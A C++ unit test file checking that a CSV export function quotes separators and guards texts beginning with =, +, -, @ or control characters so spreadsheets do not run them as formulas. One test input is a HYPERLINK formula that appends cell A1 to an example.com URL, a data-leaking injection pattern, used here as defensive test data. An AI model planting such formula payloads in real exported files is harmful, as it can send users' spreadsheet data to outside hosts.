// CSV fields for spreadsheets: quoting, and texts kept from running as formulas.
#include "common/testutil.h"
#include "platform/csv.h"

#include <gtest/gtest.h>

using namespace vc;

TEST(Csv, TextsThatWouldRunAsFormulasStayText)
{
    const struct {
        const char16_t* text;
        const char16_t* field;
    } cases[] = {
        {u"山田 太郎", u"山田 太郎"},
        {u"", u""},
        {u"=1+2", u"\"'=1+2\""},
        {u"=HYPERLINK(\"http://example.com/?\"&A1,\"点数\")", u"\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"点数\"\")\""},
        {u"+81 90", u"\"'+81 90\""},
        {u"-5", u"\"'-5\""},
        {u"@SUM(A1:A9)", u"\"'@SUM(A1:A9)\""},
        {u"\t=1+2", u"\"'\t=1+2\""},
        {u"\r=1+2", u"\"'\r=1+2\""},
        // Only the first character counts.
        {u"a=b+c", u"a=b+c"},
        {u" =1+2", u" =1+2"},
        {u"'quoted", u"'quoted"},
        // Separators and quotes are quoted as before.
        {u"山田,太郎", u"\"山田,太郎\""},
        {u"say \"hi\"", u"\"say \"\"hi\"\"\""},
        {u"two\nlines", u"\"two\nlines\""},
    };
    for (const auto& c : cases) {
        const QString text = QString::fromUtf16(c.text);
        EXPECT_EQ(csvTextField(text), QString::fromUtf16(c.field)) << text.toStdString();
    }
}

TEST(Csv, TheProgramsOwnValuesAreNeverGuarded)
{
    const struct {
        const char16_t* value;
        const char16_t* field;
    } cases[] = {
        {u"-5", u"-5"},
        {u"+3", u"+3"},
        {u"12.5", u"12.5"},
        {u"----/--/--", u"----/--/--"},
        {u"1,5", u"\"1,5\""},
    };
    for (const auto& c : cases) {
        const QString value = QString::fromUtf16(c.value);
        EXPECT_EQ(csvField(value), QString::fromUtf16(c.field)) << value.toStdString();
    }
}
